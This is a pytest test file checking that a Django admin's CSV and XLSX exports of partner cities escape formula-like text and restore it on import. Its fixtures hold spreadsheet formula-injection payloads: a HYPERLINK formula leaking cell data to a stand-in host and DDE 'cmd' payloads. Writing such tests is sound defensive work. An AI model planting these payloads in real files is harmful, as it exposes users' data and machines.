"""Exports are safe in spreadsheets (issue 13, finding 8).

An editor can write any text into content; a cell that begins with =, +, -, @, a tab or a
carriage return runs as a formula when the office opens the admin's export in a spreadsheet
program. The exports put an apostrophe in front of such a text, numbers stay numbers, and an
import of the export takes the apostrophe off again.
"""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core.formulas import formula_escaped, formula_unescaped
from partners.models import PartnerCity
from tests.factories import PartnerCityFactory

pytestmark = pytest.mark.django_db

EXPORT_URL = "/de/admin/partners/partnercity/export/"
IMPORT_URL = "/de/admin/partners/partnercity/import/"
FORMULAS = {
    "name_de": '=HYPERLINK("https://evil.example/?d="&A1,"Mehr erfahren")',
    "name_en": "+1+cmd|' /C calc'!A0",
    "description_de": "-2+3+cmd|' /C calc'!A0",
    "description_en": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MORE_FORMULAS = {
    "name_de": "\t=1+1",
    "name_en": "\r=1+1",
    # A list item is text like any other: escaped too, and restored on import.
    "description_de": "- ein Listenpunkt",
    "description_en": "==1+1",
}


@pytest.fixture
def cities(plan):
    """Return two cities whose texts are formulas, one with a negative longitude."""
    return [
        PartnerCityFactory(
            slug="formel", latitude=Decimal("51.45"), longitude=Decimal("-2.58"), **FORMULAS
        ),
        PartnerCityFactory(slug="noch-eine-formel", **MORE_FORMULAS),
    ]


def export(client, file_format: str):
    """Return the partner cities exported with every column, as the office's browser asks."""
    page = client.get(EXPORT_URL).content.decode()
    columns = re.findall(r'name="(partnercityresource_\w+)"', page)
    response = client.post(
        EXPORT_URL, {"format": file_format, "resource": "0", **dict.fromkeys(columns, "on")}
    )
    assert response.status_code == 200
    return response


def exported_csv(client) -> dict[str, dict[str, str]]:
    text = export(client, "0").content.decode("utf-8-sig")
    return {row["slug"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def test_the_csv_export_escapes_formulas_and_keeps_numbers(office_client, cities):
    rows = exported_csv(office_client)
    for slug, texts in (("formel", FORMULAS), ("noch-eine-formel", MORE_FORMULAS)):
        for column, text in texts.items():
            assert rows[slug][column] == "'" + text
    # In the language of the admin: a decimal comma in German.
    assert (rows["formel"]["latitude"], rows["formel"]["longitude"]) == ("51,45000", "-2,58000")


def test_the_xlsx_export_holds_no_formula_cell(office_client, cities):
    book = openpyxl.load_workbook(io.BytesIO(export(office_client, "1").content))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    rows = {
        row[header.index("slug")].value: dict(zip(header, row, strict=True))
        for row in sheet.iter_rows(min_row=2)
    }
    for column, text in FORMULAS.items():
        assert rows["formel"][column].value == "'" + text
    longitude = rows["formel"]["longitude"]
    assert (longitude.data_type, longitude.value) == ("n", -2.58)


def test_an_export_imports_unchanged(office_client, cities):
    content = export(office_client, "0").content
    response = office_client.post(
        IMPORT_URL,
        {"resource": "0", "format": "0", "import_file": SimpleUploadedFile("staedte.csv", content)},
    )
    page = response.content.decode()
    # Every row is unchanged: the apostrophes came off again.
    assert 'class="update"' not in page and 'class="new"' not in page
    confirm = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', page))
    assert office_client.post(IMPORT_URL.replace("import/", "process_import/"), confirm)
    city = PartnerCity.objects.get(slug="formel")
    assert {column: getattr(city, column) for column in FORMULAS} == FORMULAS


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+49 511 168-0", "'+49 511 168-0"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Hannover", "Hannover"),
        ("'s-Hertogenbosch", "'s-Hertogenbosch"),
        ("", ""),
        # Numbers are no formulas, in text or not.
        ("-2.58", "-2.58"),
        ("-2,58", "-2,58"),
        ("+1e3", "+1e3"),
        (-2.58, -2.58),
        (Decimal("-2.58"), Decimal("-2.58")),
        (None, None),
    ],
)
def test_an_escape_is_taken_off_again(value, escaped):
    assert formula_escaped(value) == escaped
    assert formula_unescaped(escaped) == value
